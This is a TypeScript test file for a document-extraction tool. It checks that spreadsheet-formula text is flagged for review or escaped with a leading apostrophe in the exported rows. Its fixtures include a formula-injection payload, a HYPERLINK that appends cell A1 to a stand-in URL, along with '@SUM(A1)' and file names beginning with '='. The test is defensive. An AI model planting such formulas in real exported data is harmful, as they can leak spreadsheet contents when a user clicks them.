import { describe, expect, it } from 'vitest';
import { checkRecord } from '../../../nodes/shared/check/checkRecord';
import { failedRow, toOutput } from '../../../nodes/StructuredExtraction/map';
import { metaOf } from '../../../nodes/StructuredExtraction/metaOf';
import type { Output } from '../../../nodes/StructuredExtraction/job';
import { options as declared } from '../../../nodes/StructuredExtraction/options';
import { schemaOf } from '../../../nodes/shared/panel/option';
import { defineSchema } from '../../../nodes/shared/schema/schema';
import { fieldsOf } from './fieldsOf';
import { resultOf } from './resultOf';

const schema = defineSchema(
	'test',
	fieldsOf({ supplier: 'string', phone: 'string', total: 'number', lines: [{ text: 'string' }] }),
);
const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
const answer = {
	supplier: link,
	phone: '+49 30 1234',
	total: '-12.50',
	lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
};
const file = '=cmd.pdf';

function outputOf(output: Output) {
	const result = resultOf({
		output,
		schema,
		extracted: {
			...checkRecord(schema, answer, { dateOrder: 'auto', decimalMark: 'auto' }),
			...{ requests: 1, repairs: 0, notes: [], usage: null },
			model: 'm',
		},
		source: {
			fileName: file,
			text: { pages: [{ number: 1, markdown: JSON.stringify(answer) }], ocrUsage: null, raw: null },
		},
		model: 'm',
		options: schemaOf(declared).parse({}),
	});
	const meta = metaOf(result);
	return { meta, rows: toOutput(result, meta, [{ fileName: '=x.pdf', reason: 'is empty' }]) };
}

describe('texts that a spreadsheet would run', () => {
	it('stay as they are in records, and are reasons for a review there', () => {
		const { meta, rows } = outputOf('record');
		expect(meta.review).toEqual([
			'Supplier: the text begins like a formula, which a spreadsheet would run',
			'Line 2, text: the text begins like a formula, which a spreadsheet would run',
		]);
		expect(rows).toMatchObject([
			{
				supplier: link,
				lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
				_meta: { fileName: file },
			},
		]);
	});

	it.each(['flat', 'listRows'] as const)('are marked in %s, file names too', (output) => {
		const { meta, rows } = outputOf(output);
		expect(meta.review).toEqual([]);
		expect(rows[0]).toMatchObject({
			supplier: `'${link}`,
			phone: '+49 30 1234',
			total: -12.5,
			_file: `'${file}`,
			_skipped: "'=x.pdf is empty",
		});
		if (output === 'listRows') {
			expect(rows.map((row) => row['lines_text'])).toEqual(['- Pen', "'@SUM(A1)"]);
		}
	});

	it('are marked in rows of documents that failed, also where their columns are not known', () => {
		const row = (layout: () => never) =>
			failedRow(
				'flat',
				file,
				'the file is empty',
				[{ fileName: '=x.pdf', reason: 'is empty' }],
				layout,
			);
		expect(
			row(() => {
				throw new Error('no schema');
			}),
		).toEqual({
			_file: `'${file}`,
			_review: 'Not read: the file is empty',
			_skipped: "'=x.pdf is empty",
		});
	});
});
